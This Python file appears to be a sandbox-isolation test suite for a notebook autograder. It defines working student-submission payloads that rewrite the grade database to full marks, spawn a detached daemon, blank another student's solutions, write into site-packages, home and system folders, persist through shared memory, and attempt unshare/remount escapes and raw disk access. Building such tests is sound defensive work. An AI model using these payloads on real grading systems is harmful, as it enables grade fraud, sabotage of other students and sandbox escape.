"""Changing grades and files; every file written is named @MARK@, so that it is found and removed afterwards."""

from attacks.model import BOAST, Attack, answer, first, inserted, others

UPDATE = """\
import os
import sqlite3


def cheat():
    path = "@COURSE@/build/gradebook.db"
    if not os.path.exists(path):
        return
    with sqlite3.connect(path, timeout=0.2) as database:
        database.execute(
            "update grade set manual_score = 4, auto_score = 4 where notebook_id in (select sn.id from submitted_notebook sn "
            "join submitted_assignment sa on sn.assignment_id = sa.id where sa.student_id = '@STUDENT@')"
        )
"""
DURING = f"{UPDATE}\n\ndef double(x):\n    cheat()\n    return 0\n\n\ncheat()"
DAEMON = """\
import subprocess
program = '''
import time
{update}
end = time.monotonic() + 40
while time.monotonic() < end:
    try:
        cheat()
    except Exception:
        pass
    time.sleep(1)
'''
subprocess.Popen(["@PYTHON@", "-c", program, "@MARK@"], start_new_session=True, stdin=-3, stdout=-3, stderr=-3)"""
PLACES = """\
import os


def put(*places):
    for place in places:
        try:
            with open(os.path.join(os.path.expanduser(place), "@MARK@{name}"), "w") as file:
                file.write("@MARK@")
        except OSError:
            pass
"""
PACKAGES = f"""\
{PLACES.format(name="-packages.txt")}

import os
import numpy
import IPython
put("@SITE@", os.path.dirname(numpy.__file__), os.path.dirname(IPython.__file__), os.path.dirname(os.__file__))
try:
    import autograder
    put(*autograder.__path__)
except ImportError:
    pass"""
HOME = f"""\
{PLACES.format(name="-home.txt")}
put("~", "@HOME@", "@REALHOME@", "~/.ipython/profile_default/startup", "~/.config", "@RUNTIME@")"""
SHARED = f"""\
{PLACES.format(name="-shared.txt")}
put("/tmp", "/var/tmp", "/dev/shm", "/run", "/", "/etc", "/usr/local/bin", "@COURSE@", "@COURSE@/build", ".", "..")"""
OTHERS = """\
import glob
import json
for path in glob.glob("@COURSE@/build/submitted/zz-victim/*/*.ipynb"):
    with open(path) as file:
        notebook = json.load(file)
    for cell in notebook["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("solution"):
            cell["source"] = "pass"
    with open(path, "w") as file:
        json.dump(notebook, file)
for path in glob.glob("@COURSE@/build/submitted/*-*honest") + ["@COURSE@/build/source"]:
    with open(path + "/@MARK@-others.txt", "w") as file:
        file.write("here I was")"""
LEFT = "@MARK@-carried"
CARRY = f"""\
import os
import tempfile

text = "@MARK@ carried"
for place in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/", os.path.expanduser("~"), tempfile.gettempdir(), "..", "."):
    path = os.path.join(place, "{LEFT}.txt")
    if os.path.exists(path) and open(path).read() != "@MARK@ carried by " + str(os.getpid()) + "@STUDENT@":
        print("{BOAST}", path)
    try:
        with open(path, "w") as file:
            file.write("@MARK@ carried by " + str(os.getpid()) + "@STUDENT@")
    except OSError:
        pass
try:
    from multiprocessing import shared_memory
    try:
        print("{BOAST}", shared_memory.SharedMemory("{LEFT}").name)
    except FileNotFoundError:
        shared_memory.SharedMemory("{LEFT}", create=True, size=64)
except ImportError:
    pass"""
REMOUNT = f"""\
import ctypes
import os
libc = ctypes.CDLL(None, use_errno=True)
before = os.stat("/usr").st_dev
libc.unshare(0x10000000 | 0x00020000)
for target in (b"/", b"/usr", b"@SITE@", b"@COURSE@", b"/tmp", b"/proc"):
    libc.mount(None, target, None, 32 | 4096, None)
    libc.umount2(target, 2)
for place in ("/", "/usr", "@SITE@", "@COURSE@"):
    try:
        with open(os.path.join(place, "@MARK@-remount.txt"), "w") as file:
            file.write("here I was")
        print("{BOAST}", place)
    except OSError:
        pass
for device in ("/dev/vda", "/dev/sda", "/dev/mem"):
    try:
        os.close(os.open(device, os.O_RDONLY))
        print("{BOAST}", device)
    except OSError:
        pass"""
ARCHIVE = """\
import os


def double(x):
    for name in ("b01_plain.ipynb", "timestamp.txt", "../@MARK@-up.txt"):
        try:
            with open(name, "w") as file:
                file.write('{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}')
        except OSError:
            pass
    os.makedirs("nbgrader", exist_ok=True)
    return 2 * x"""

ATTACKS = [
    Attack("database-during", "Writing", "the database during or after grading", answer(double=DURING)),
    Attack("database-after", "Writing", "the database during or after grading", first(DAEMON.format(update=UPDATE))),
    Attack("site-packages", "Writing", "site-packages", inserted(PACKAGES, "double"), honest=others(), stock_safe=False),
    Attack("home", "Writing", "home", inserted(HOME, "double"), honest=others(), stock_safe=False),
    Attack("shared-folders", "Writing", "home", inserted(SHARED, "double"), honest=others(), stock_safe=False),
    Attack("other-submissions", "Writing", "other submissions", inserted(OTHERS, "double"), honest=others()),
    Attack("carry-1", "Writing", "other submissions", inserted(CARRY, "double"), honest=others(), stock_safe=False),
    Attack("carry-2", "Writing", "other submissions", inserted(CARRY, "double"), honest=others(), stock_safe=False),
    Attack("remount", "Writing", "site-packages", inserted(REMOUNT, "double"), honest=others(), stock_safe=False),
    Attack("own-folder", "Writing", "", answer(double=ARCHIVE), honest=others()),
]
